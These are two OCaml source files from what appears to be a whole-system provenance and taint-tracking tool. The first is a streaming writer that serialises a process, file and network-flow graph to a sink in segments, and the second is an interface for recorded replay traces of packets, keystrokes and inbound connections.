  w_incident : (int, edge_key list ref) Hashtbl.t;  (* node ord -> edge keys *)
  mutable w_inc_cells : int;  (* total incident cells, live or dead *)
  w_spilled : Bits.t;  (* ordinals already written *)
  mutable w_next_eord : int;
  mutable w_spilled_nodes : int;
  mutable w_spilled_edges : int;
  mutable w_patch_rows : int;
  mutable w_peak_nodes : int;
  mutable w_peak_edges : int;
  mutable w_closed : bool;
}

let next_seq t =
  let s = t.w_seq in
  t.w_seq <- s + 1;
  s

let marker t event =
  Faros_obs.Sink.graph_segment t.w_sink ~run:t.w_run ~seq:(next_seq t) ~event
    ~nodes:t.w_seg_nodes ~edges:t.w_seg_edges

let writer ?(seg_rows = 2048) ~sink ~run () =
  let t =
    {
      w_sink = sink;
      w_run = run;
      w_seg_rows = max 1 seg_rows;
      w_seq = 0;
      w_rows_in_seg = 0;
      w_seg_nodes = 0;
      w_seg_edges = 0;
      w_segments = 1;
      w_nodes = Hashtbl.create 256;
      w_edges = Hashtbl.create 256;
      w_incident = Hashtbl.create 256;
      w_inc_cells = 0;
      w_spilled = Bits.create ();
      w_next_eord = 0;
      w_spilled_nodes = 0;
      w_spilled_edges = 0;
      w_patch_rows = 0;
      w_peak_nodes = 0;
      w_peak_edges = 0;
      w_closed = false;
    }
  in
  marker t "begin";
  t

let run t = t.w_run
let live_nodes t = Hashtbl.length t.w_nodes
let live_edges t = Hashtbl.length t.w_edges

let stats t =
  {
    st_spilled_nodes = t.w_spilled_nodes;
    st_spilled_edges = t.w_spilled_edges;
    st_patch_rows = t.w_patch_rows;
    st_peak_live_nodes = t.w_peak_nodes;
    st_peak_live_edges = t.w_peak_edges;
    st_rows = t.w_seq;
    st_segments = t.w_segments;
  }

(* Segment rotation: close the open segment once it holds [seg_rows]
   rows, so a consumer can checkpoint at marker boundaries. *)
let row_written t =
  t.w_rows_in_seg <- t.w_rows_in_seg + 1;
  if t.w_rows_in_seg >= t.w_seg_rows then begin
    marker t "end";
    t.w_rows_in_seg <- 0;
    t.w_seg_nodes <- 0;
    t.w_seg_edges <- 0;
    t.w_segments <- t.w_segments + 1
  end

(* -- row rendering -------------------------------------------------------- *)

let esc = Faros_obs.Json.escape

let node_fields ln =
  match ln.ln_seed with
  | Faros_graph.Delta.S_flow f ->
    Printf.sprintf {|"src":"%s","sport":%d,"dst":"%s","dport":%d|}
      (Faros_os.Types.Ip.to_string f.src_ip)
      f.src_port
      (Faros_os.Types.Ip.to_string f.dst_ip)
      f.dst_port
  | S_proc { pid; _ } ->
    let exit =
      match ln.ln_exit with
      | Some c -> Printf.sprintf {|,"exit":%d|} c
      | None -> ""
    in
    Printf.sprintf {|"pid":%d,"name":"%s"%s,"tainted":%d,"netflow":%d|} pid
      (esc ln.ln_name) exit ln.ln_tainted ln.ln_netflow
  | S_file { name; _ } ->
    Printf.sprintf {|"name":"%s","vlo":%d,"vhi":%d|} (esc name) ln.ln_vlo
      ln.ln_vhi
  | S_module { pid; image; base } ->
    Printf.sprintf {|"pid":%d,"image":"%s","base":%d|} pid (esc image) base
  | S_region { pid; process; vaddr; len; types } ->
    Printf.sprintf {|"pid":%d,"process":"%s","vaddr":%d,"len":%d,"types":[%s]|}
      pid (esc process) vaddr len
      (String.concat ","
         (List.map (fun ty -> Printf.sprintf {|"%s"|} (esc ty)) types))
  | S_flag { process; pc; tick } ->
    Printf.sprintf {|"process":"%s","pc":%d,"tick":%d|} (esc process) pc tick

let flush_node t ln =
  Faros_obs.Sink.graph_node t.w_sink ~run:t.w_run ~seq:(next_seq t)
    ~ord:ln.ln_ord ~ident:ln.ln_ident
    ~kind:(Faros_graph.Delta.seed_kind ln.ln_seed)
    ~fields:(node_fields ln) ();
  Hashtbl.remove t.w_nodes ln.ln_ord;
  Bits.add t.w_spilled ln.ln_ord;
  t.w_spilled_nodes <- t.w_spilled_nodes + 1;
  t.w_seg_nodes <- t.w_seg_nodes + 1;
  row_written t

let patch t ~ord fields =
  Faros_obs.Sink.graph_node t.w_sink ~run:t.w_run ~seq:(next_seq t) ~ord ~fields
    ();
  t.w_patch_rows <- t.w_patch_rows + 1;
  t.w_seg_nodes <- t.w_seg_nodes + 1;
  row_written t

let flush_edge t key =
  match Hashtbl.find_opt t.w_edges key with
  | None -> ()
  | Some le ->
    Faros_obs.Sink.graph_edge t.w_sink ~run:t.w_run ~seq:(next_seq t)
      ~eord:le.le_eord ~src:le.le_src ~dst:le.le_dst
      ~kind:(Faros_graph.Graph.edge_kind_name le.le_kind)
      ~tick:le.le_tick ~last_tick:le.le_last ~count:le.le_count
      ~bytes:le.le_bytes;
    Hashtbl.remove t.w_edges key;
    t.w_spilled_edges <- t.w_spilled_edges + 1;
    t.w_seg_edges <- t.w_seg_edges + 1;
    row_written t

let add_incident t ord key =
  let l =
    match Hashtbl.find_opt t.w_incident ord with
    | Some l -> l
    | None ->
      let l = ref [] in
      Hashtbl.replace t.w_incident ord l;
      l
  in
  l := key :: !l;
  t.w_inc_cells <- t.w_inc_cells + 1

(* A node that never retires (the listener, the init process) accretes
   incident cells for edges long since flushed from the other endpoint.
   When dead cells dominate, rebuild every list from the live edge set —
   O(live) work, amortized constant per edge, and order-preserving: the
   rebuilt lists are in ascending creation order ([eord]), exactly what
   insertion built, so retirement flush order is unchanged. *)
let prune_incident t =
  if t.w_inc_cells > (4 * Hashtbl.length t.w_edges) + 64 then begin
    Hashtbl.reset t.w_incident;
    t.w_inc_cells <- 0;
    Hashtbl.fold (fun key le acc -> (le.le_eord, key) :: acc) t.w_edges []
    |> List.sort compare
    |> List.iter (fun (_, ((src, dst, _) as key)) ->
           add_incident t src key;
           add_incident t dst key)
  end

(* -- the consumer --------------------------------------------------------- *)

let consume t (delta : Faros_graph.Delta.t) =
  match delta with
  | D_node { ord; ident; seed } ->
    let name = match seed with Faros_graph.Delta.S_proc { name; _ } -> name | _ -> "" in
    let vlo, vhi =
      match seed with Faros_graph.Delta.S_file { version; _ } -> (version, version) | _ -> (0, 0)
    in
    Hashtbl.replace t.w_nodes ord
      {
        ln_ord = ord;
        ln_ident = ident;
        ln_seed = seed;
        ln_name = name;
        ln_exit = None;
        ln_tainted = 0;
        ln_netflow = 0;
        ln_vlo = vlo;
        ln_vhi = vhi;
      };
    t.w_peak_nodes <- max t.w_peak_nodes (Hashtbl.length t.w_nodes)
  | D_name { ord; name } -> (
    match Hashtbl.find_opt t.w_nodes ord with
    | Some ln -> ln.ln_name <- name
    | None ->
      if Bits.mem t.w_spilled ord then
        patch t ~ord (Printf.sprintf {|"name":"%s"|} (esc name)))
  | D_version { ord; version } -> (
    match Hashtbl.find_opt t.w_nodes ord with
    | Some ln ->
      if version < ln.ln_vlo then ln.ln_vlo <- version;
      if version > ln.ln_vhi then ln.ln_vhi <- version
    | None ->
      if Bits.mem t.w_spilled ord then
        patch t ~ord (Printf.sprintf {|"vlo":%d,"vhi":%d|} version version))
  | D_exit { ord; code } -> (
    match Hashtbl.find_opt t.w_nodes ord with
    | Some ln -> ln.ln_exit <- Some code
    | None ->
      if Bits.mem t.w_spilled ord then
        patch t ~ord (Printf.sprintf {|"exit":%d|} code))
  | D_taint { ord; tainted; netflow } -> (
    match Hashtbl.find_opt t.w_nodes ord with
    | Some ln ->
      ln.ln_tainted <- tainted;
      ln.ln_netflow <- netflow
    | None ->
      if Bits.mem t.w_spilled ord then
        patch t ~ord
          (Printf.sprintf {|"tainted":%d,"netflow":%d|} tainted netflow))
  | D_edge { src; dst; kind; tick; bytes } -> (
    let key = (src, dst, kind) in
    match Hashtbl.find_opt t.w_edges key with
    | Some le ->
      le.le_last <- tick;
      le.le_count <- le.le_count + 1;
      le.le_bytes <- le.le_bytes + bytes
    | None ->
      let eord = t.w_next_eord in
      t.w_next_eord <- eord + 1;
      Hashtbl.replace t.w_edges key
        {
          le_eord = eord;
          le_src = src;
          le_dst = dst;
          le_kind = kind;
          le_tick = tick;
          le_last = tick;
          le_count = 1;
          le_bytes = bytes;
        };
      add_incident t src key;
      add_incident t dst key;
      t.w_peak_edges <- max t.w_peak_edges (Hashtbl.length t.w_edges))
  | D_retire { ord } ->
    (* spill the node and every live edge touching it; the incident list
       may hold keys already flushed from the other endpoint — flush_edge
       checks liveness *)
    (match Hashtbl.find_opt t.w_incident ord with
    | Some keys ->
      List.iter (fun key -> flush_edge t key) (List.rev !keys);
      Hashtbl.remove t.w_incident ord
    | None -> ());
    (match Hashtbl.find_opt t.w_nodes ord with
    | Some ln -> flush_node t ln
    | None -> ());
    prune_incident t

(* Drain: everything still live spills in deterministic order (nodes by
   ordinal, edges by creation ordinal), then the final marker closes the
   run.  Identical graphs therefore serialize identically regardless of
   how much retirement happened along the way. *)
let close t =
  if not t.w_closed then begin
    t.w_closed <- true;
    let edges =
      Hashtbl.fold (fun key le acc -> (le.le_eord, key) :: acc) t.w_edges []
      |> List.sort compare
    in
    List.iter (fun (_, key) -> flush_edge t key) edges;
    let nodes =
      Hashtbl.fold (fun ord _ acc -> ord :: acc) t.w_nodes []
      |> List.sort compare
    in
    List.iter
      (fun ord ->
        match Hashtbl.find_opt t.w_nodes ord with
        | Some ln -> flush_node t ln
        | None -> ())
      nodes;
    Hashtbl.reset t.w_incident;
    marker t "final"
  end
