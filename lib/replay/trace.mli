(** Recorded non-deterministic input.

    Everything else in the guest is deterministic (pure-function scheduler,
    synthetic devices, no wall clock), so a trace of network arrivals and
    keystrokes is sufficient to replay a whole-system execution exactly —
    the property PANDA's record/replay gives the paper.  The trace also
    carries integrity metadata so the replayer can detect divergence. *)

type event =
  | Packet of Faros_os.Types.flow * string  (** one received chunk *)
  | Key of int  (** one user keystroke *)
  | Inbound of int * Faros_os.Netstack.inbound_event
      (** one host-initiated connection step, tagged with the
          slice-boundary tick at which the netstack pump delivered it *)

type t = {
  events : event list;  (** in arrival order *)
  final_tick : int;  (** instruction count when recording stopped *)
  syscall_count : int;
}

val empty : t

val rx_chunks : t -> Faros_os.Types.flow -> string list
(** All payload chunks received on a flow, in order. *)

val keys : t -> int list

val inbound_schedule : t -> (int * Faros_os.Netstack.inbound_event) list
(** The recorded inbound schedule, ready for [Netstack.schedule_inbound]. *)

val packet_count : t -> int
val inbound_count : t -> int
val total_rx_bytes : t -> int

val serialize : t -> string
(** Binary trace-file format: "FTR1" when the trace has no inbound events
    (byte-identical to the v1 format), "FTR2" otherwise. *)

exception Bad_trace of string

val parse : string -> t
(** Inverse of {!serialize}.  Raises {!Bad_trace}. *)
